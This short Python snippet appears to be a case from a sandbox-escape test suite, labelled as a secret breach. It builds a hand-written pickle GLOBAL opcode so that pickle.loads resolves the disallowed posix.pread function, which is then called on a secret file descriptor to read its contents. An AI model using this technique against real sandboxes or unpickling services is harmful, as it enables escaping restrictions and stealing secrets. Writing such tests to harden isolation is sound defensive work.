# A sentinel names a module that is not allowed, from which pickle takes what has its name.
# breach: secret
# only: 3.15+
import copyreg, pickle, sys
name = sentinel("pread")
name.__module__ = "posix"
class Pickler(pickle._Pickler):
    def save_global(self, item, name=None):
        self.write(b"c" + item.__module__.encode() + b"\n" + item.__name__.encode() + b"\n")
import io
out = io.BytesIO()
Pickler(out, 0).dump(name)
pickle.loads(out.getvalue())(SECRET_FD, 100, 0)
